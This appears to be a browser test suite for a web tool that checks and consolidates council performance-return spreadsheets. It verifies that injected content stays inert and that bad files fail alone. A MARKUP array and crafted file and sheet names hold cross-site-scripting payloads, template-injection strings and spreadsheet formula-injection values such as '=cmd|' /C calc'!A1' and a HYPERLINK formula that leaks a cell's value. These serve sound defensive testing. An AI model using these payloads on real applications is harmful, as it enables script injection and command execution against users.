// Whatever is in a file, and whatever becomes of it: text stays text, and one bad file never hides the others.

import assert from "node:assert/strict";
import { copyFileSync, rmSync, truncateSync, writeFileSync } from "node:fs";
import { basename, join } from "node:path";
import { test } from "node:test";
import { example, lay, returnOf } from "./support/examples.mjs";
import { unlike } from "./support/findings.mjs";
import { hostileFiles } from "./support/hostile.mjs";
import { peak } from "./support/memory.mjs";
import { inBrowser } from "./support/page.mjs";
import { checkJson } from "./support/program.mjs";
import { quarter } from "./support/quarter.mjs";
import { inFolder, without } from "./support/tools.mjs";
import { LOOPS_AT, STOPS_AT, faultyPage } from "./support/wasm.mjs";
import { packed, partsOf, rewrite, setText } from "./support/workbook.mjs";

/** @typedef {import("./support/page.mjs").Planroll} Planroll */

const skip = without("page", "chromium");
const skipBoth = skip || without("program");
const GIGABYTE = 1 << 30;

const MARKUP = [
  '<img src=x onerror="window.hit=1">',
  "<script>window.hit=1</script>",
  '"><svg onload=window.hit=1>',
  "</td></tr></table><h1>Nothing needs putting</h1>",
  "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  '<a href="javascript:window.hit=1">go</a>',
  "<style>*{display:none}</style>",
  "{{constructor.constructor('window.hit=1')()}} ${window.hit=1}",
  '=HYPERLINK("http://example.org/?"&A1,"go")',
  "=cmd|' /C calc'!A1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "_x0007__x001b_[31mred_x0000_ &lt;b&gt;&amp;amp; \u202etxt.exe\u2066\u200b",
];

/** How many elements of each kind that text could have made there are in the page. */
async function elements(/** @type {Planroll} */ opened) {
  return await opened.page.evaluate(() => {
    const kinds = [
      "img",
      "svg",
      "script",
      "style",
      "iframe",
      "object",
      "embed",
      "link",
      "base",
      "form",
      "video",
      "h1",
      "meta",
    ];
    return {
      ...Object.fromEntries(kinds.map((kind) => [kind, document.querySelectorAll(kind).length])),
      handlers: [...document.querySelectorAll("*")].flatMap((one) =>
        one.getAttributeNames().filter((name) => name.startsWith("on")),
      ).length,
      links: [...document.querySelectorAll("[href]")].filter((one) => !one.getAttribute("href")?.startsWith("#"))
        .length,
      frames: window.frames.length,
      hit: "hit" in window,
    };
  });
}

test(
  "markup, formulas and control characters in cells, names of files and of sheets stay text",
  { skip: skipBoth },
  async () => {
    await inFolder(async (folder) => {
      const growth = partsOf(returnOf("west-norfolk/growth"));
      // In what is quoted in findings: ratings, commentary beside them, values, references.
      for (const [at, text] of MARKUP.entries()) setText(growth, "Actions", `F${5 + at}`, text);
      for (const [at, text] of MARKUP.entries()) setText(growth, "Actions", `I${5 + at}`, `${text} is on hold`);
      for (const [at, text] of MARKUP.slice(0, 6).entries()) setText(growth, "Indicators", `L${6 + at}`, text);
      setText(growth, "Sign-off", "B4", MARKUP[0] ?? "");
      const name = "<img src=x onerror=window.hit=1>&amp; '=1+1'.xlsx";
      writeFileSync(join(folder, name), packed(growth));
      const renamed = partsOf(returnOf("west-norfolk/environment"));
      const sheet = "&lt;img src=x onerror=hit=1&gt;";
      rewrite(renamed, "xl/workbook.xml", (xml) =>
        xml.replace('name="Actions"', `name="${sheet}"`).replaceAll("'Actions'!", `'${sheet}'!`),
      );
      setText(renamed, sheet.replaceAll("&lt;", "<").replaceAll("&gt;", ">"), "F5", "<b>Purple</b>");
      writeFileSync(join(folder, "<script>window.hit=1<‌.xlsx".replace("‌", "")), packed(renamed));
      // In the plan workbook: every name that comes out again in tables, drafts and returns.
      const plan = partsOf(example("west-norfolk").plan);
      for (const part of Object.keys(plan).filter(
        (one) => one.startsWith("xl/worksheets/") || one === "xl/sharedStrings.xml",
      )) {
        const xml = new TextDecoder().decode(plan[part]);
        const changed = xml
          .replaceAll(">Growth and prosperity<", ">&lt;img src=x onerror=window.hit=1&gt;<")
          .replaceAll(">Efficient services<", ">&lt;script&gt;window.hit=1&lt;/script&gt;<");
        plan[part] = new TextEncoder().encode(changed);
      }
      writeFileSync(join(folder, "plan.xlsx"), packed(plan));
      const names = [name, "<script>window.hit=1<.xlsx"].sort();
      const given = names.map((one) => join(folder, one));
      await inBrowser(async (opened) => {
        await opened.ready();
        const before = await elements(opened);
        const isText = async (/** @type {string} */ where) => {
          await opened.page.waitForTimeout(100);
          assert.deepEqual(await elements(opened), before, where);
          opened.sound();
        };
        await opened.give(given);
        await isText("check");
        assert.deepEqual(unlike(await opened.rows(), await checkJson(folder, ...names)), []);
        const words = await opened.words();
        for (const text of [...MARKUP.slice(0, 7), name, "<b>Purple</b>"])
          assert.ok(words.includes(text), `${text} is not shown`);
        await opened.tab("Collect and report");
        await opened.give([join(folder, "plan.xlsx"), ...given, returnOf("west-norfolk/communities")]);
        await opened.fill({ "E-mail drafts to service leads": "outstanding" });
        await opened.run("Consolidate");
        await isText("consolidate");
        assert.ok((await opened.words()).includes("<img src=x onerror=window.hit=1>"));
        await opened.tab("Start and issue");
        await opened.run("Issue returns");
        await isText("issue");
      });
    });
  },
);

test(
  "every hostile file costs itself alone, in bounded time and memory",
  { skip: skipBoth, timeout: 120_000 },
  async () => {
    await inFolder(async (folder) => {
      const files = hostileFiles();
      for (const [name, bytes] of Object.entries(files)) writeFileSync(join(folder, name), bytes);
      const good = returnOf("west-norfolk/efficient");
      lay(folder, [good]);
      const names = [...Object.keys(files), basename(good)].sort();
      // The program reads this kind, in a process of its own; a page cannot, and says what to do.
      const old = "old kind renamed.xlsx";
      const checked = await checkJson(folder, ...names.filter((name) => name !== old));
      await inBrowser(async (opened) => {
        await opened.ready();
        const began = Date.now();
        await opened.input.setInputFiles(names.map((name) => join(folder, name)));
        await opened.ready(100_000);
        const took = Date.now() - began;
        const all = await opened.rows();
        const rows = all.filter(({ around }) => !around.some((text) => text.includes(old)));
        assert.deepEqual(unlike(rows, checked), []);
        assert.equal(all.length - rows.length, 1, old);
        const words = await opened.words();
        for (const name of names) assert.ok(words.includes(name), `${name} is not named`);
        assert.equal(checked.files.find(({ path }) => path === basename(good))?.findings.length, 2);
        // 20 s for each would be borne; all of them together stay under it.
        assert.ok(took < 20_000, `all together took ${took} ms`);
        const most = peak(opened.profile);
        assert.ok(most > 0 && most < GIGABYTE, `${Math.round(most / (1 << 20))} MB`);
        opened.sound();
      });
    });
  },
);

test("a file that goes or changes between giving and reading costs itself alone", { skip }, async () => {
  await inFolder(async (folder) => {
    const { plan, returns } = example("west-norfolk");
    const paths = returns.map((path) => join(folder, basename(path)));
    for (const [at, path] of paths.entries()) copyFileSync(returns[at] ?? "", path);
    await inBrowser(async (opened) => {
      await opened.ready();
      await opened.tab("Collect and report");
      await opened.give([plan, ...paths]);
      const [gone = "", changed = "", ...stay] = paths;
      rmSync(gone);
      writeFileSync(changed, "something else, and shorter");
      await opened.run("Consolidate");
      const rows = await opened.rows();
      for (const path of [gone, changed]) {
        const its = rows.filter((row) => [...row.cells, ...row.around].some((text) => text.includes(basename(path))));
        assert.equal(its.length, 1, `${basename(path)}: ${its.map((row) => row.cells.join(" ")).join("; ")}`);
        assert.match(its[0]?.cells.join(" ") ?? "", /could not read|moved or changed/);
      }
      for (const path of stay) {
        const others = rows.filter((row) => row.around.some((text) => text.includes(basename(path))));
        assert.ok(others.length === 0 || others.every(({ codes }) => !codes.includes("WBK001")), basename(path));
      }
      const cells = await opened.page.locator("td").allTextContents();
      assert.ok(
        cells.some((text) => /^\d+ \(\d+%\)$/.test(text.trim())),
        "the figures of the others",
      );
      assert.match((await opened.words()).toString(), /Provisional/);
      opened.sound();
    });
  });
});

test("where the program stops or does not come back, that costs one file", { skip }, async () => {
  await inFolder(async (folder) => {
    const page = faultyPage();
    const { returns } = example("west-norfolk");
    const make = (/** @type {string} */ name, /** @type {number} */ length) => {
      const path = join(folder, name);
      writeFileSync(path, Buffer.alloc(length, 65));
      return path;
    };
    const bad = {
      "a stops.xlsx": STOPS_AT,
      "f stops too.xlsx": STOPS_AT,
      "f never ends.xlsx": LOOPS_AT,
      "z stops at last.xlsx": STOPS_AT,
    };
    const paths = [...returns, ...Object.entries(bad).map(([name, length]) => make(name, length))];
    await inBrowser(
      async (opened) => {
        await opened.ready();
        await opened.page.clock.install();
        const inTime = async () => {
          // A minute goes by for the page, in which nothing comes from the worker that goes round.
          for (let at = 0; at < 12 && (await opened.main.getAttribute("aria-busy")) === "true"; at += 1) {
            await opened.page.waitForTimeout(1000);
            await opened.page.clock.fastForward(31_000);
          }
          await opened.ready();
        };
        /** What stands of the good ones, and what of the bad. */
        const isRight = async () => {
          const rows = await opened.rows();
          for (const name of Object.keys(bad)) {
            const its = rows.filter((row) => [...row.cells, ...row.around].some((text) => text.includes(name)));
            assert.equal(its.length, 1, name);
            const wanted = name.includes("never") ? /longer/ : /failed|stopped/;
            assert.match(its[0]?.cells.join(" ") ?? "", wanted, name);
          }
          const good = rows.filter((row) => !row.codes.includes("WBK001"));
          assert.equal(good.length, 9, "the findings of the good ones");
        };
        await opened.input.setInputFiles(paths);
        await inTime();
        await isRight();
        // And the job can be done once more, and what came of it be saved.
        await opened.button("Check").click();
        await inTime();
        await isRight();
        const saved = await opened.save(/^Save efficient.*\.checked\.xlsx$/);
        assert.equal(Buffer.from(saved.bytes.subarray(0, 2)).toString(), "PK");
        opened.sound();
      },
      { file: page },
    );
  });
});

test(
  "200 returns of 60 actions are collected in 15 s, without the page standing still, in a gigabyte",
  { skip: skipBoth || without("openpyxl"), timeout: 240_000 },
  async () => {
    const { plan, returns } = await quarter();
    assert.equal(returns.length, 200);
    /** @type {string[]} */
    const wrong = [];
    const holds = (/** @type {boolean} */ is, /** @type {string} */ what) => void (is || wrong.push(what));
    await inBrowser(async (opened) => {
      const { page } = opened;
      await opened.ready();
      await page.evaluate(() => {
        const seen = { longest: 0, last: performance.now() };
        Object.assign(window, { seen });
        setInterval(() => {
          const now = performance.now();
          seen.longest = Math.max(seen.longest, now - seen.last);
          seen.last = now;
        }, 20);
      });
      /** How long it stood still since this was asked last. */
      const paused = () =>
        page.evaluate(() => {
          const { seen } = /** @type {any} */ (window);
          const longest = Math.round(seen.longest);
          return new Promise((resolve) => {
            setTimeout(() => {
              seen.longest = 0;
              resolve(longest);
            }, 100);
          });
        });
      // In a page of this size everything is looked for cheaply, so that it is not kept from its work.
      const button = (/** @type {string} */ name) =>
        page.locator("button", { hasText: new RegExp(`^\\s*${name}\\s*$`) });
      const shares = () =>
        page.evaluate(
          () =>
            [...document.getElementsByTagName("td")].filter((cell) => /^\d+ \(\d+%\)$/.test(cell.textContent ?? ""))
              .length,
        );
      const tables = () =>
        page.waitForFunction(
          () => [...document.getElementsByTagName("td")].some((cell) => /^\d+ \(\d+%\)$/.test(cell.textContent ?? "")),
          null,
          { polling: 200, timeout: 60_000 },
        );
      // The check that begins by itself is part of it.
      const began = Date.now();
      await opened.input.setInputFiles([plan, ...returns]);
      await opened.tab("Collect and report");
      await button("Consolidate").click();
      await tables();
      const took = Date.now() - began;
      await opened.ready(60_000);
      const whole = Date.now() - began;
      const pause = await paused();
      const megabytes = Math.round(peak(opened.profile) / (1 << 20));
      console.log(
        `200 returns: tables after ${took} ms, all after ${whole} ms, longest pause ${pause} ms, ${megabytes} MB`,
      );
      holds(took < 15_000, `the tables came after ${took} ms`);
      holds(pause < 2000, `it stood still for ${pause} ms`);
      holds(megabytes > 0 && megabytes < 1024, `${megabytes} MB`);
      const overall = await page.evaluate(
        () =>
          [...document.getElementsByTagName("tr")].find((row) => /^\s*Overall/.test(row.textContent ?? ""))
            ?.textContent,
      );
      assert.match(overall ?? "", /12,?000\s*$/);

      // Cancelled in the middle, and done again.
      // From within the page: it is done before a click from outside comes.
      const stopped = await page.evaluate(
        () =>
          new Promise((done) => {
            const named = (/** @type {string} */ name) =>
              [...document.getElementsByTagName("button")].find(
                (one) => one.textContent?.trim() === name && !one.hidden,
              );
            const status = /** @type {Element} */ (document.querySelector("[role=status]"));
            const watch = new MutationObserver(() => {
              if (!/[1-9]\d* of \d/.test(status.textContent ?? "")) return;
              watch.disconnect();
              named("Cancel")?.click();
              done(Date.now());
            });
            watch.observe(status, { childList: true, characterData: true, subtree: true });
            named("Consolidate")?.click();
          }),
      );
      await page.waitForFunction(() => document.querySelector("[role=status]")?.textContent?.includes("Cancelled"));
      holds(Date.now() - stopped < 2000, `cancelled after ${Date.now() - stopped} ms`);
      assert.equal(await shares(), 0);
      const anew = await paused();
      holds(anew < 2000, `it stood still for ${anew} ms, begun again and cancelled`);
      await button("Consolidate").click();
      await tables();
      await opened.ready(60_000);
      const again = await paused();
      holds(again < 2000, `it stood still for ${again} ms when it was done again`);
      const most = Math.round(peak(opened.profile) / (1 << 20));
      holds(most > 0 && most < 1024, `${most} MB`);
      opened.sound();
    });
    assert.deepEqual(wrong, []);
  },
);

test(
  "more workbooks than a page can hold are refused in words, and what is no workbook does not count",
  { skip },
  async () => {
    await inFolder(async (folder) => {
      const sized = (/** @type {string} */ name, /** @type {number} */ megabytes) => {
        const path = join(folder, name);
        writeFileSync(path, "PK");
        truncateSync(path, megabytes << 20);
        return path;
      };
      const good = returnOf("west-norfolk/efficient");
      await inBrowser(async (opened) => {
        await opened.ready();
        await opened.give([good, sized("one.xlsx", 250), sized("two.xlsx", 160)]);
        const said = (await opened.alert.textContent()) ?? "";
        assert.match(said, /400 MB/, said);
        assert.match(said, /4\d\d MB/, said);
        assert.equal((await opened.rows()).length, 0);
        await opened.give([good, sized("film.mp4", 500), sized("disc.iso", 500)]);
        assert.equal((await opened.rows()).length, 2, "the return is checked");
        const words = await opened.words();
        assert.ok(words.includes("film.mp4") && words.includes("disc.iso"), "what is passed over is named");
        const most = peak(opened.profile);
        assert.ok(
          most > 0 && most < GIGABYTE / 2,
          `${Math.round(most / (1 << 20))} MB: what is passed over is not read`,
        );
        opened.sound();
      });
    });
  },
);
